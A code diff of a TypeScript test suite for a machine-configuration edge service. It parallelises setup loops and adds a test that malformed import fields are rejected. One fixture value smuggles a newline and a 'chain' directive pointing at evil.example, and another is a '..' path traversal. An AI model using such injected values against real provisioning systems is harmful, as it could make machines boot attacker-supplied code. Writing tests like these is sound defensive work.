@@ -32,10 +32,13 @@ describe('export and import', () => {
     const edge = machineEdge();
     await edge.putProfile('p', { base: config('/base') });
     const urls = new Map<string, string>();
-    for (let index = 0; index < 65; index += 1) {
-      const { id, urls: own } = await edge.putMachine(`t-${index}`, config(`/${index}`), index % 2 ? '?profile=p' : '');
-      urls.set(id, own.ignition);
-    }
+    await Promise.all(
+      Array.from({ length: 65 }, async (_, index) => {
+        const query = index % 2 ? '?profile=p' : '';
+        const { id, urls: own } = await edge.putMachine(`t-${index}`, config(`/${index}`), query);
+        urls.set(id, own.ignition);
+      }),
+    );
     await edge.call('DELETE', '/api/machines/t-0');
     const lines = await exported(edge);
     expect(lines).toHaveLength(64);
@@ -89,6 +92,23 @@ describe('export and import', () => {
     expect([answer.status, await answer.json()]).toMatchObject([503, { imported: 1, stopped: { line: 2 } }]);
   });
 
+  it.each([
+    ['version', 'current\nchain http://evil.example/x'],
+    ['channel', 'no/pe'],
+    ['board', '..'],
+    ['expiry', 1e13],
+  ])('an import with a %s that cannot be is refused with its line', async (field, value) => {
+    await emptyBucket();
+    const edge = machineEdge();
+    await edge.putMachine('vm', config('/a'));
+    const line = JSON.parse(await (await edge.call('GET', '/api/machines/export')).text()) as Record<string, unknown>;
+    const answer = await edge.call('POST', '/api/machines/import', JSON.stringify({ ...line, [field]: value }));
+    expect([answer.status, (await answer.json<{ detail: string }>()).detail]).toEqual([
+      422,
+      expect.stringMatching(new RegExp(`^line 1: ${field}: `)),
+    ]);
+  });
+
   it('at most 300 machines a call', async () => {
     await emptyBucket();
     const edge = machineEdge();
@@ -109,7 +129,7 @@ describe('rotating the storage key', () => {
     const before = machineEdge({ vars: { STORAGE_KEY: KEYS[0] } });
     await before.putProfile('p', { base: config('/base'), default: config('/default') });
     const { urls, pointer } = await before.putMachine('vm', config('/user'), '?profile=p');
-    for (let index = 0; index < 60; index += 1) await before.putMachine(`k-${index}`, config('/x'));
+    await Promise.all(Array.from({ length: 60 }, (_, index) => before.putMachine(`k-${index}`, config('/x'))));
     await before.putMachine('none', '');
 
     const during = machineEdge({ vars: { STORAGE_KEY: `${KEYS[1]},${KEYS[0]}` } });
